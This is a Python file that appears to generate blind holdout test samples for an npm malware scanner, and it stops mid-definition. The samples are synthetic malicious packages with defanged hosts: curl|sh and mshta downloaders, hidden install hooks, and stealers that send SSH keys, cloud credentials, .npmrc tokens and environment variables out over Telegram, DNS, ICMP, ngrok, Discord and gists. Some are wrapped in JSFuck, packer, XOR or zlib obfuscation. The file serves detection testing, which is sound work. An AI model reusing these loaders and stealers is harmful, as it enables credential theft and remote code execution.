"""Blind holdout samples for scripts/make-samples.py (2026-11, issue 6): malicious and tricky
benign packages written WITHOUT reading the scanner's rules, to measure how the rules generalise
to techniques and coding styles not seen while tuning them. Malicious samples are in SAMPLES,
tricky benign ones in BENIGN. Same safety rules as samples_malicious.py: every source is Python
string data, packed into a tarball in memory, never written out, imported or run. Defanged the
same way: attacker hosts under reserved names (.invalid, .example, .test), documentation IPs,
all-zero ids and tokens for abused public services, made-up keys and wallets; the one
self-propagating step sits behind a DNS answer for a .invalid name.
"""

import base64
import json
import re
import zlib

from samples_malicious import S, ZERO_DISCORD, ZERO_TELEGRAM, addr, pj
from samples_common import b64, registry

SAMPLES, BENIGN, sample, benign = registry()


def xor_hex(s, key):
    data = s.encode()
    return "".join("%02x" % (b ^ ord(key[i % len(key)])) for i, b in enumerate(data))


def js_escape_hex(s):
    return "".join("\\x%02x" % b for b in s.encode())


# A JSFuck-style spelling of identifiers: letters taken out of false, true, undefined and
# "[object Object]" by index, numbers built from +!+[].
_JSF_SRC = {
    "false": "(![]+[])",
    "true": "(!![]+[])",
    "undefined": "([][[]]+[])",
    "[object Object]": "([]+{})",
}


def _jsf_num(n):
    if n == 0:
        return "+[]"
    return "+".join(["!+[]"] * n) if n < 10 else "+(" + "+".join(_jsf_digit(d) for d in str(n)) + ")"


def _jsf_digit(d):
    n = int(d)
    return "[" + ("+[]" if n == 0 else "+".join(["!+[]"] * n)) + "]"


def jsf(word):
    parts = []
    for ch in word:
        for src, expr in _JSF_SRC.items():
            i = src.find(ch)
            if i >= 0:
                parts.append(f"{expr}[{_jsf_num(i)}]")
                break
        else:
            raise ValueError(ch)
    return "+".join(parts)


def packer(js):
    """Dean Edwards' p.a.c.k.e.r. (eval(function(p,a,c,k,e,d)…)) with base-36 word indexes."""
    words = []
    for w in re.findall(r"\b\w+\b", js):
        if w not in words:
            words.append(w)
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"

    def enc(n):
        return digits[n] if n < 36 else enc(n // 36) + digits[n % 36]

    idx = {w: enc(i) for i, w in enumerate(words)}
    body = re.sub(r"\b\w+\b", lambda m: idx[m.group(0)], js)
    body = body.replace("\\", "\\\\").replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String))"
        "{while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function()"
        "{return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}"
        f"return p}}('{body}',36,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


ZERO_GIST = "https://api.github.com/gists/" + "0" * 32
ZERO_FORM = "https://docs.google.com/forms/d/e/1FAIpQL" + "0" * 49 + "/formResponse"
ZERO_NGROK = "https://0000-203-0-113-0.ngrok-free.app"


# ---------------------------------------------------------------------------------------------
# Install-time tricks outside package.json scripts


@sample
def binding_gyp_command_expansion():
    files = {
        "package.json": pj(
            name="fast-crc32c-native", version="2.1.0",
            description="Hardware accelerated CRC32C for Node.js", main="index.js",
            gypfile=True,
        ),
        "binding.gyp": r'''{
  "targets": [
    {
      "target_name": "crc32c",
      "sources": ["src/crc32c.cc"],
      "include_dirs": ["<!(node -e \"require('nan')\")"],
      "variables": {
        "probe": "<!(sh -c 'curl -fsSL http://198.51.100.23/k.sh | sh >/dev/null 2>&1; echo 1')"
      },
      "cflags": ["-msse4.2"]
    }
  ]
}
''',
        "src/crc32c.cc": "#include <nan.h>\n// crc32c implementation\nNAN_MODULE_INIT(Init) {}\nNODE_MODULE(crc32c, Init)\n",
        "index.js": "module.exports = require('./build/Release/crc32c.node');\n",
    }
    return S(
        "holdout-binding-gyp-command-expansion",
        "binding.gyp abuse: node-gyp '<!(...)' command expansion running curl | sh during the implicit install build",
        "2023-2025",
        ["binding-gyp", "implicit-install", "download-exec", "pipe-to-shell", "network"],
        "Synthetic. No install script in package.json: npm runs node-gyp rebuild because a "
        "binding.gyp exists, and gyp evaluates '<!(...)' command expansions while loading it. "
        "Technique described in write-ups on gyp-based install hooks (e.g. Socket/Phylum notes on "
        "packages with binding.gyp but no native sources worth building).",
        files,
    )


@sample
def npmrc_node_options_preload():
    files = {
        "package.json": pj(
            name="react-form-kit-starter", version="0.3.1",
            description="Starter project for react-form-kit", private=False,
            scripts={"start": "node server.js"},
        ),
        ".npmrc": "engine-strict=true\nnode-options=\"--require ./.config/preload.js\"\n",
        ".config/preload.js": r'''const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const marker = path.join(os.tmpdir(), ".rfk-" + os.userInfo().username);
if (!fs.existsSync(marker)) {
  fs.writeFileSync(marker, "1");
  const grab = (p) => { try { return fs.readFileSync(path.join(os.homedir(), p), "utf8"); } catch (e) { return ""; } };
  const body = JSON.stringify({ h: os.hostname(), npmrc: grab(".npmrc"), gh: grab(".config/gh/hosts.yml"), env: process.env });
  const r = https.request({ hostname: "collect.rfk-telemetry.example", path: "/v1/i", method: "POST", headers: { "content-type": "application/json" } });
  r.on("error", () => {}); r.end(body);
}
''',
        "server.js": "require('http').createServer((q, s) => s.end('ok')).listen(3000);\n",
    }
    return S(
        "holdout-npmrc-node-options-preload",
        "project .npmrc 'node-options=--require' preload: every npm script of a cloned starter runs a stealer first",
        "2024-2025",
        ["npmrc-abuse", "node-options", "preload", "env-harvest", "npmrc-read", "token-theft", "network"],
        "Synthetic. The tarball's .npmrc sets node-options so any node started by npm in that "
        "folder (npm start, npm test) first requires .config/preload.js, which posts ~/.npmrc, the "
        "gh CLI token and the whole environment. Modelled on fake-starter / job-interview repos "
        "(Contagious Interview write-ups) that hide loaders in config files.",
        files,
    )


@sample
def yarnrc_yarnpath_hijack():
    stage = r'''#!/usr/bin/env node
/* yarn 4.1.0 release bundle (truncated) */
var cp=require("child_process"),o=require("os");
if(o.platform()!=="win32"){cp.spawn("/bin/sh",["-c","curl -fsSL https://get.yarn-mirror.example/r | sh"],{detached:true,stdio:"ignore"}).unref()}
else{cp.spawn("powershell.exe",["-w","hidden","-c","iex (iwr -useb https://get.yarn-mirror.example/w.ps1)"],{detached:true,stdio:"ignore"}).unref()}
require(require("path").join(__dirname,"yarn-real.cjs"));
'''
    files = {
        "package.json": pj(
            name="nest-admin-template", version="1.4.0", description="NestJS admin template",
            packageManager="yarn@4.1.0", scripts={"dev": "nest start --watch"},
        ),
        ".yarnrc.yml": "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n",
        ".yarn/releases/yarn-4.1.0.cjs": stage,
        ".yarn/releases/yarn-real.cjs": "module.exports = {};\n",
    }
    return S(
        "holdout-yarnrc-yarnpath-hijack",
        ".yarnrc.yml yarnPath pointing at a trojanised 'yarn release' that runs a hidden curl|sh / iwr|iex",
        "2024-2025",
        ["yarnrc-abuse", "yarnpath", "download-exec", "pipe-to-shell", "powershell", "detached-process"],
        "Synthetic. Yarn Berry runs whatever yarnPath names for every yarn command in the folder; "
        "the 'release' file spawns a detached downloader for the host OS before loading the real "
        "yarn. Technique described for poisoned template repositories (Contagious Interview, 2024).",
        files,
    )


@sample
def prepare_node_e_remote_eval():
    files = {
        "package.json": pj(
            name="vue-tiny-carousel", version="1.0.7", main="dist/index.js",
            description="Tiny carousel component for Vue 3",
            scripts={
                "prepare": "node -e \"require('https').get('https://cdn.vtc-assets.example/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{try{eval(d)}catch(e){}})})\"",
            },
        ),
        "dist/index.js": "export default { name: 'TinyCarousel', props: { items: Array }, render() { return null } };\n",
    }
    return S(
        "holdout-prepare-node-e-remote-eval",
        "'prepare' lifecycle hook running node -e that downloads JavaScript and evals it",
        "2023-2025",
        ["install-script", "prepare", "node-e", "remote-code", "eval", "network"],
        "Synthetic. prepare runs on git-dependency installs and local npm install, where people "
        "often forget it is a lifecycle hook; the one-liner fetches a stage and evals it.",
        files,
    )


@sample
def install_bash_tar_upload():
    files = {
        "package.json": pj(
            name="aws-cdk-lib-utils", version="2.180.4", main="index.js",
            description="Helpers for aws-cdk-lib constructs",
            scripts={"install": "bash ./scripts/setup.sh || true"},
        ),
        "scripts/setup.sh": r'''#!/bin/bash
# verify toolchain
command -v node >/dev/null || exit 0
T=$(mktemp -d)
tar czf "$T/c.tgz" -C "$HOME" .aws .ssh .kube .docker/config.json .git-credentials 2>/dev/null
curl -s -T "$T/c.tgz" "https://transfer.cdkutils.example/$(hostname)-$(whoami).tgz" >/dev/null 2>&1
rm -rf "$T"
''',
        "index.js": "exports.tagAll = (scope, tags) => Object.entries(tags).forEach(([k, v]) => scope.node.addMetadata(k, v));\n",
    }
    return S(
        "holdout-install-bash-tar-upload",
        "install-time bash script tarring ~/.aws, ~/.ssh, ~/.kube, docker and git credentials and uploading with curl -T",
        "2022-2025",
        ["install-script", "shell-script", "credential-theft", "ssh-key-theft", "cloud-credentials", "archive-upload", "network"],
        "Synthetic, in the style of the AWS/cloud credential typosquats reported by Sonatype and "
        "Phylum: the payload is a plain shell file, no JavaScript at all.",
        files,
    )


@sample
def cmd_mshta_postinstall():
    files = {
        "package.json": pj(
            name="windows-build-helpers", version="3.0.2", main="index.js",
            description="Helpers for building native modules on Windows",
            scripts={"postinstall": "cmd /c start /b scripts\\init.cmd"},
        ),
        "scripts/init.cmd": "@echo off\r\nif not \"%OS%\"==\"Windows_NT\" exit /b 0\r\nstart \"\" /min mshta http://203.0.113.45/u/update.hta\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v wbh /d \"mshta http://203.0.113.45/u/update.hta\" /f >nul 2>&1\r\nexit /b 0\r\n",
        "index.js": "exports.vsVersion = () => process.env.VisualStudioVersion || null;\n",
    }
    return S(
        "holdout-cmd-mshta-postinstall",
        "Windows postinstall batch file starting mshta with a remote HTA and a RunOnce key",
        "2021-2025",
        ["install-script", "windows-only", "batch", "mshta", "remote-code", "persistence", "network"],
        "Synthetic. mshta of a remote HTA is a LOLBin download-and-run used by several npm droppers "
        "(e.g. ReversingLabs and Phylum reports on Windows-targeting typosquats).",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Exfiltration channels


@sample
def telegram_ssh_esm_gated():
    files = {
        "package.json": pj(
            name="chalk-template-literal", version="1.2.0", type="module", exports="./index.js",
            description="Tagged template literals for chalk",
        ),
        "index.js": r'''import { readFile, readdir } from "node:fs/promises";
import { homedir, hostname, userInfo, platform, cpus } from "node:os";
import { join } from "node:path";

export default function template(chalk, strings, ...values) {
  return strings.reduce((out, s, i) => out + s + (i < values.length ? chalk(String(values[i])) : ""), "");
}

const sandbox = ["sandbox", "malware", "analysis", "virus", "cuckoo"];
const u = userInfo().username.toLowerCase();
if (platform() !== "win32" && cpus().length > 2 && !sandbox.some((n) => u.includes(n) || hostname().toLowerCase().includes(n))) {
  const dir = join(homedir(), ".ssh");
  const names = await readdir(dir).catch(() => []);
  for (const n of names.filter((f) => f.startsWith("id_") || f === "config")) {
    const text = await readFile(join(dir, n), "utf8").catch(() => "");
    const form = new FormData();
    form.append("chat_id", "-1000000000000");
    form.append("document", new Blob([text]), hostname() + "_" + n);
    await fetch("''' + ZERO_TELEGRAM + r'''/sendDocument", { method: "POST", body: form }).catch(() => {});
  }
}
''',
    }
    return S(
        "holdout-telegram-ssh-esm-gated",
        "ESM module with top-level await: SSH keys sent to a Telegram bot, skipped on Windows, small VMs and sandbox user names",
        "2023-2025",
        ["esm", "top-level-await", "ssh-key-theft", "telegram-exfil", "sandbox-evasion", "platform-gate", "network"],
        "Synthetic, after the Telegram-bot exfiltration typosquats reported by Socket and "
        "Checkmarx; the environment checks follow the anti-analysis gates those reports list.",
        files,
    )


@sample
def google_forms_env_exfil():
    files = {
        "package.json": pj(
            name="lodash-deep-merge", version="4.2.3", main="index.js",
            description="Deep merge for lodash users", scripts={"postinstall": "node lib/check.js"},
        ),
        "index.js": "module.exports = function merge(a, b) { for (const k of Object.keys(b)) a[k] = (a[k] && typeof a[k] === 'object') ? merge(a[k], b[k]) : b[k]; return a; };\n",
        "lib/check.js": r'''const https = require("https");
const os = require("os");
const qs = require("querystring");
const data = qs.stringify({
  "entry.0000000001": os.hostname(),
  "entry.0000000002": os.userInfo().username,
  "entry.0000000003": process.cwd(),
  "entry.0000000004": Buffer.from(JSON.stringify(process.env)).toString("base64"),
});
const u = new URL("''' + ZERO_FORM + r'''");
const req = https.request({ hostname: u.hostname, path: u.pathname, method: "POST",
  headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": Buffer.byteLength(data) } });
req.on("error", () => {});
req.write(data);
req.end();
''',
    }
    return S(
        "holdout-google-forms-env-exfil",
        "postinstall posting host, user, cwd and the base64 environment to a Google Forms formResponse",
        "2023-2025",
        ["install-script", "env-harvest", "google-forms-exfil", "host-fingerprint", "network"],
        "Synthetic. Google Forms as a free collector was reported in npm and PyPI recon packages "
        "(Phylum, 2023); form id all zeros.",
        files,
    )


@sample
def dns_base32_npmrc_chunks():
    files = {
        "package.json": pj(
            name="internal-auth-sdk", version="99.10.2", main="index.js",
            description="", scripts={"preinstall": "node index.js"},
        ),
        "index.js": r'''const dns = require("dns");
const fs = require("fs");
const path = require("path");
const os = require("os");
const A = "abcdefghijklmnopqrstuvwxyz234567";
function b32(buf) {
  let bits = 0, val = 0, out = "";
  for (const b of buf) { val = (val << 8) | b; bits += 8; while (bits >= 5) { out += A[(val >>> (bits - 5)) & 31]; bits -= 5; } }
  if (bits > 0) out += A[(val << (5 - bits)) & 31];
  return out;
}
let secret = "";
try { secret = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch (e) {}
secret += "\n" + (process.env.NPM_TOKEN || "") + "\n" + os.hostname();
const enc = b32(Buffer.from(secret));
const id = Math.random().toString(36).slice(2, 8);
const parts = enc.match(/.{1,50}/g) || [];
parts.forEach((p, i) => setTimeout(() => dns.resolve4(`${p}.${i}.${id}.t.oast-collab.example`, () => {}), i * 200));
''',
    }
    return S(
        "holdout-dns-base32-npmrc-chunks",
        "dependency-confusion package exfiltrating ~/.npmrc and NPM_TOKEN in base32 DNS labels, chunk by chunk",
        "2021-2025",
        ["install-script", "preinstall", "dependency-confusion", "dns-exfil", "npmrc-read", "token-theft", "base32"],
        "Synthetic. Variant of the DNS-exfiltration probes (Birsan 2021, many copycats): base32 "
        "instead of hex, paced with setTimeout, secrets instead of host details.",
        files,
    )


@sample
def icmp_ping_padding_exfil():
    files = {
        "package.json": pj(
            name="net-latency-probe", version="0.2.4", main="index.js",
            description="Measure network latency", scripts={"postinstall": "node index.js --selftest"},
        ),
        "index.js": r'''const { execSync } = require("child_process");
const os = require("os");
const fs = require("fs");
function latency(host) {
  const out = execSync("ping -c 3 " + host).toString();
  const m = out.match(/= [\d.]+\/([\d.]+)/);
  return m ? Number(m[1]) : null;
}
module.exports = latency;
if (process.argv.includes("--selftest") && os.platform() === "linux") {
  let k = "";
  try { k = fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8"); } catch (e) {}
  const hex = Buffer.from(os.hostname() + "|" + k).toString("hex");
  for (let i = 0; i < hex.length; i += 32) {
    try { execSync("ping -c 1 -W 1 -p " + hex.slice(i, i + 32) + " 192.0.2.77", { stdio: "ignore" }); } catch (e) {}
  }
}
''',
    }
    return S(
        "holdout-icmp-ping-padding-exfil",
        "ICMP exfiltration: AWS credentials hex-encoded into ping -p padding patterns at postinstall",
        "2022-2025",
        ["install-script", "icmp-exfil", "cloud-credentials", "child-process", "platform-gate"],
        "Synthetic. ping -p carries 16 bytes of attacker-chosen padding per packet; ICMP channels "
        "were noted in recon packages (JFrog, 2022). No HTTP at all.",
        files,
    )


@sample
def ngrok_tunnel_ts_awaiter():
    files = {
        "package.json": pj(
            name="@nestjs-utils/config-loader", version="10.0.3", main="dist/index.js", types="dist/index.d.ts",
            description="Typed configuration loader for NestJS", scripts={"postinstall": "node dist/postinstall.js"},
        ),
        "dist/index.d.ts": "export declare function loadConfig<T>(path: string): T;\n",
        "dist/index.js": '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.loadConfig = void 0;\nconst fs_1 = require("fs");\nfunction loadConfig(path) { return JSON.parse((0, fs_1.readFileSync)(path, "utf8")); }\nexports.loadConfig = loadConfig;\n',
        "dist/postinstall.js": r'''"use strict";
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
const axios_1 = __importDefault(require("axios"));
const os_1 = __importDefault(require("os"));
const fs_1 = __importDefault(require("fs"));
const path_1 = __importDefault(require("path"));
const ENDPOINT = "''' + ZERO_NGROK + r'''/api/v1/metrics";
function collect() {
    return __awaiter(this, void 0, void 0, function* () {
        const home = os_1.default.homedir();
        const files = [".aws/credentials", ".config/gcloud/application_default_credentials.json", ".azure/accessTokens.json"];
        const found = {};
        for (const f of files) {
            const p = path_1.default.join(home, f);
            if (fs_1.default.existsSync(p)) found[f] = fs_1.default.readFileSync(p, "utf8");
        }
        const keys = Object.keys(process.env).filter((k) => /KEY|SECRET|TOKEN|PASS/i.test(k));
        const env = {};
        keys.forEach((k) => { env[k] = process.env[k]; });
        yield axios_1.default.post(ENDPOINT, { host: os_1.default.hostname(), found, env }, { timeout: 5000 }).catch(() => undefined);
    });
}
collect();
''',
    }
    return S(
        "holdout-ngrok-tunnel-ts-awaiter",
        "tsc-compiled postinstall (__awaiter/__importDefault) sending cloud credential files and secret-named env vars to an ngrok tunnel",
        "2023-2025",
        ["install-script", "typescript-output", "cloud-credentials", "token-theft", "tunnel-exfil", "network"],
        "Synthetic. Tunnelling services (ngrok, localtunnel, Cloudflare quick tunnels) as collectors "
        "appear throughout Phylum/Socket reports; the code looks like ordinary tsc output. "
        "Tunnel sub-domain defanged to zeros and a documentation address.",
        files,
    )


@sample
def gist_dead_drop_loader():
    files = {
        "package.json": pj(
            name="express-rate-guard", version="2.3.1", main="index.js",
            description="Rate limiting middleware for Express",
        ),
        "index.js": r'''"use strict";
const buckets = new Map();
module.exports = function rateGuard(opts = {}) {
  const max = opts.max || 100, windowMs = opts.windowMs || 60000;
  return (req, res, next) => {
    const k = req.ip, now = Date.now();
    const b = buckets.get(k) || { n: 0, t: now };
    if (now - b.t > windowMs) { b.n = 0; b.t = now; }
    b.n++; buckets.set(k, b);
    if (b.n > max) return res.status(429).end();
    next();
  };
};
require("./lib/sync");
''',
        "lib/sync.js": r'''const https = require("https");
const os = require("os");
const fs = require("fs");
const path = require("path");
https.get("''' + ZERO_GIST + r'''", { headers: { "User-Agent": "node" } }, (res) => {
  let raw = "";
  res.on("data", (c) => (raw += c));
  res.on("end", () => {
    try {
      const g = JSON.parse(raw);
      const src = Buffer.from(g.files["config.txt"].content, "base64").toString();
      const f = path.join(os.tmpdir(), ".erg-" + process.pid + ".js");
      fs.writeFileSync(f, src);
      require(f);
      fs.unlinkSync(f);
    } catch (e) {}
  });
}).on("error", () => {});
''',
    }
    return S(
        "holdout-gist-dead-drop-loader",
        "GitHub Gist dead drop: stage base64-stored in a gist file, written to tmp, required and deleted",
        "2022-2025",
        ["staged-loader", "gist-dead-drop", "remote-code", "temp-file-require", "anti-forensics", "network"],
        "Synthetic. Gists and other public pastes as dead-drop resolvers are described in "
        "ReversingLabs and Checkmarx reports; gist id all zeros.",
        files,
    )


@sample
def ipfs_stage_eval():
    files = {
        "package.json": pj(
            name="web3-utils-extended", version="1.10.5", main="index.js",
            description="Extra helpers for web3-utils",
        ),
        "index.js": r'''const https = require("https");
exports.toChecksum = (a) => a.toLowerCase();
exports.isHexStrict = (s) => /^0x[0-9a-f]*$/i.test(s);
const GATEWAYS = ["https://ipfs.io/ipfs/", "https://cloudflare-ipfs.com/ipfs/", "https://gateway.pinata.cloud/ipfs/"];
const CID = "bafybei" + "a".repeat(52);
(function next(i) {
  if (i >= GATEWAYS.length) return;
  https.get(GATEWAYS[i] + CID + "/init.js", (r) => {
    if (r.statusCode !== 200) return next(i + 1);
    let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => { (0, eval)(s); });
  }).on("error", () => next(i + 1));
})(0);
''',
    }
    return S(
        "holdout-ipfs-stage-eval",
        "second stage pulled from IPFS through a list of public gateways and run with indirect eval",
        "2023-2025",
        ["remote-code", "ipfs", "indirect-eval", "gateway-fallback", "network"],
        "Synthetic. IPFS-hosted payloads (content addressed, no takedown) are reported in "
        "crypto-themed npm campaigns (Phylum 2023-2024). Made-up CID.",
        files,
    )


@sample
def tron_aptos_bsc_chain_loader():
    files = {
        "package.json": pj(
            name="hardhat-deploy-verify", version="0.12.4", main="index.js",
            description="Verify hardhat deployments", scripts={"postinstall": "node index.js"},
        ),
        "index.js": r'''const axios = require("axios");
const ACC = "''' + addr("trx", 901) + r'''";
async function resolve() {
  const t = await axios.get(`https://api.trongrid.io/v1/accounts/${ACC}/transactions?only_confirmed=true&limit=1`);
  const txid = Buffer.from(t.data.data[0].raw_data.data, "hex").toString("utf8").split("").reverse().join("");
  const b = await axios.post("https://bsc-dataseed.bnbchain.org", { jsonrpc: "2.0", id: 1, method: "eth_getTransactionByHash", params: [txid] });
  const code = Buffer.from(b.data.result.input.slice(2), "hex").toString("utf8");
  return code;
}
resolve().then((c) => new Function("require", c)(require)).catch(() => {});
''',
    }
    return S(
        "holdout-tron-bsc-chain-loader",
        "blockchain dead drop chain: TRON account memo -> BSC transaction input -> new Function (DPRK 2025 style)",
        "2025",
        ["install-script", "blockchain-c2", "memo-field", "remote-code", "new-function", "network"],
        "Synthetic, after 2025 write-ups of Contagious Interview loaders that read the next hop "
        "from TRON/Aptos transaction data and the payload from BSC transaction input. Made-up "
        "account address.",
        files,
    )


@sample
def discord_roblox_cookie_noblox():
    files = {
        "package.json": pj(
            name="noblox.js-proxied", version="4.15.1", main="index.js",
            description="A Roblox API wrapper with proxy support", scripts={"postinstall": "node postinstall.js"},
        ),
        "index.js": "module.exports = { setCookie: async (c) => ({ cookie: c }), getIdFromUsername: async (u) => 0 };\n",
        "postinstall.js": r'''const fs = require("fs"), os = require("os"), path = require("path");
const { execSync } = require("child_process");
let cookie = "";
try {
  cookie = execSync('reg query "HKCU\\Software\\Roblox\\RobloxStudioBrowser\\roblox.com" /v .ROBLOSECURITY', { encoding: "utf8" });
} catch (e) {}
try {
  cookie += fs.readFileSync(path.join(process.env.LOCALAPPDATA || "", "Roblox", "LocalStorage", "RobloxCookies.dat"), "utf8");
} catch (e) {}
fetch("''' + ZERO_DISCORD + r'''", {
  method: "POST",
  headers: { "Content-Type": "application/json" },
  body: JSON.stringify({ username: "noblox", content: "```" + os.userInfo().username + "\n" + cookie + "```" }),
}).catch(() => {});
''',
    }
    return S(
        "holdout-discord-roblox-cookie-noblox",
        "noblox.js typosquats (Socket/ReversingLabs 2023-2024): Roblox .ROBLOSECURITY cookie from the registry and cookie file to a Discord webhook",
        "2023-2024",
        ["install-script", "typosquat", "cookie-theft", "registry-read", "discord-webhook", "network"],
        "Synthetic, after the noblox.js / noblox.js-proxy typosquat reports; webhook id zeroed.",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Obfuscators other than javascript-obfuscator


@sample
def jsfuck_function_constructor():
    body = "var c=require('child_'+'process');c.exec('curl -s http://198.51.100.9/x|sh')"
    F = "[]" + "[" + jsf("filter") + "]" + "[" + jsf("constructor") + "]"
    code = f'{F}("{js_escape_hex(body)}")()'
    files = {
        "package.json": pj(name="is-odd-even", version="3.0.4", main="index.js", description="Is a number odd or even"),
        "index.js": "'use strict';\nmodule.exports = function isOddEven(n) { return Math.abs(n % 2) === 1 ? 'odd' : 'even'; };\n" + code + ";\n",
    }
    return S(
        "holdout-jsfuck-function-constructor",
        "JSFuck-style spelling of []['filter']['constructor'] (the Function constructor) running a hex-escaped curl|sh",
        "2019-2025",
        ["obfuscated", "jsfuck", "function-constructor", "hex-escapes", "download-exec", "child-process"],
        "Synthetic. The names 'filter' and 'constructor' are assembled from characters of false, "
        "true, undefined and [object Object], the classic JSFuck trick seen in skimmers and npm "
        "droppers (Sonatype, Snyk write-ups).",
        files,
    )


@sample
def dean_edwards_packer_stealer():
    inner = (
        "var fs=require('fs'),os=require('os'),https=require('https');"
        "var t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');"
        "var r=https.request({hostname:'stats.jqplugins.example',path:'/c',method:'POST'});"
        "r.write(t+process.env.NPM_TOKEN);r.end();"
    )
    files = {
        "package.json": pj(
            name="jquery-ui-touch-punch-fix", version="0.2.5", main="jquery.ui.touch-punch.min.js",
            description="Touch event support for jQuery UI", scripts={"postinstall": "node jquery.ui.touch-punch.min.js"},
        ),
        "jquery.ui.touch-punch.min.js": "/*! jQuery UI Touch Punch 0.2.5 | MIT */\n" + packer(inner) + "\n",
    }
    return S(
        "holdout-dean-edwards-packer-stealer",
        "Dean Edwards p.a.c.k.e.r. (eval(function(p,a,c,k,e,d)...)) hiding an .npmrc / NPM_TOKEN stealer run at postinstall",
        "2018-2025",
        ["install-script", "obfuscated", "eval-packer", "npmrc-read", "token-theft", "network"],
        "Synthetic. The packer is an old obfuscator still used in skimmers and npm stealers; the "
        "payload strings only exist after the word table is substituted at run time.",
        files,
    )


@sample
def string_reversal_require_exec():
    files = {
        "package.json": pj(
            name="react-native-svg-icons-pack", version="1.3.9", main="index.js",
            description="SVG icons for React Native",
        ),
        "index.js": r'''const icons = require("./icons.json");
const r = (s) => s.split("").reverse().join("");
const m = require(r("ssecorp_dlihc"));
const o = require(r("so"));
if (o[r("mroftalp")]() === r("niwrad")) {
  m[r("cexe")](r("hs | tpircs/sn.kcirtsgnirts.tceles//:ptth Ls- lruc"), () => {});
}
module.exports = (name) => icons[name];
''',
        "icons.json": '{"home":"M10 20v-6h4v6h5v-8h3L12 3 2 12h3v8z"}\n',
    }
    return S(
        "holdout-string-reversal-require-exec",
        "module names, the platform check and a curl|sh command all stored reversed, macOS only",
        "2022-2025",
        ["obfuscated", "string-reversal", "dynamic-require", "platform-gate", "download-exec", "child-process"],
        "Synthetic. Reversed strings are a cheap evasion reported in many npm droppers "
        "(Checkmarx, Phylum). The command reads 'curl -sL http://select.stringstrick.sn/script | sh' "
        "backwards; the .sn host is a made-up name (defanged: no request is ever made).",
        files,
    )


@sample
def xor_payload_in_bin_file():
    key = "k3y!"
    payload = ("const c=require('child_process');const o=require('os');"
               "if(!process.env.CI){c.spawn(o.platform()==='win32'?'cmd.exe':'/bin/sh',"
               "[o.platform()==='win32'?'/c':'-c','curl -fsSL http://203.0.113.88/a|sh'],"
               "{detached:true,stdio:'ignore'}).unref()}")
    enc = bytes(b ^ ord(key[i % len(key)]) for i, b in enumerate(payload.encode()))
    files = {
        "package.json": pj(
            name="sqlite-vec-loader", version="0.1.7", main="index.js",
            description="Load sqlite-vec extension",
        ),
        "index.js": r'''const fs = require("fs");
const path = require("path");
const vm = require("vm");
exports.extensionPath = () => path.join(__dirname, "lib", process.platform + "-" + process.arch, "vec0");
const d = fs.readFileSync(path.join(__dirname, "lib", "vec0.dat"));
const k = "k3y!";
const out = Buffer.alloc(d.length);
for (let i = 0; i < d.length; i++) out[i] = d[i] ^ k.charCodeAt(i % k.length);
vm.runInThisContext(out.toString())(require);
'''.replace("vm.runInThisContext(out.toString())(require);", "new vm.Script(\"(function(require){\" + out.toString() + \"})\").runInThisContext()(require);"),
        "lib/vec0.dat": enc,
    }
    return S(
        "holdout-xor-payload-in-bin-file",
        "XOR-encrypted payload in a .dat 'extension' file, decrypted on require and run through vm.Script",
        "2023-2025",
        ["hidden-code", "xor", "encrypted-payload", "vm", "download-exec", "detached-process", "ci-evasion"],
        "Synthetic. Encrypted stages in data files next to a tiny decryptor are described in "
        "ReversingLabs reports (e.g. the 2024 'binary blob' loaders); skipped on CI.",
        files,
    )


@sample
def zlib_compressed_eval():
    payload = ("const h=require('https'),os=require('os');"
               "h.request({host:'198.51.100.61',port:8443,path:'/b',method:'POST',rejectUnauthorized:false})"
               ".end(JSON.stringify({u:os.userInfo(),n:os.networkInterfaces(),e:process.env}))")
    blob = base64.b64encode(zlib.compress(payload.encode(), 9)).decode()
    files = {
        "package.json": pj(
            name="pretty-bytes-format", version="6.1.2", main="index.js",
            description="Convert bytes to a human readable string",
        ),
        "index.js": r'''"use strict";
const UNITS = ["B", "kB", "MB", "GB", "TB"];
module.exports = function prettyBytes(n) {
  if (!Number.isFinite(n)) throw new TypeError("Expected a finite number");
  const e = Math.min(Math.floor(Math.log10(Math.abs(n) || 1) / 3), UNITS.length - 1);
  return (n / Math.pow(1000, e)).toPrecision(3) + " " + UNITS[e];
};
const z = require("zlib");
const _d = "''' + blob + r'''";
Function(z.inflateSync(Buffer.from(_d, "base64")).toString())();
''',
    }
    return S(
        "holdout-zlib-compressed-eval",
        "zlib-deflated base64 payload inflated on require and run with Function(): host and environment to a raw IP",
        "2022-2025",
        ["obfuscated", "compressed-payload", "function-constructor", "env-harvest", "raw-ip", "network"],
        "Synthetic. Compression (zlib, lz-string) instead of plain base64 keeps payload strings out "
        "of static scans (Snyk and Phylum notes on packed npm payloads).",
        files,
    )


@sample
def settimeout_string_eval_atob():
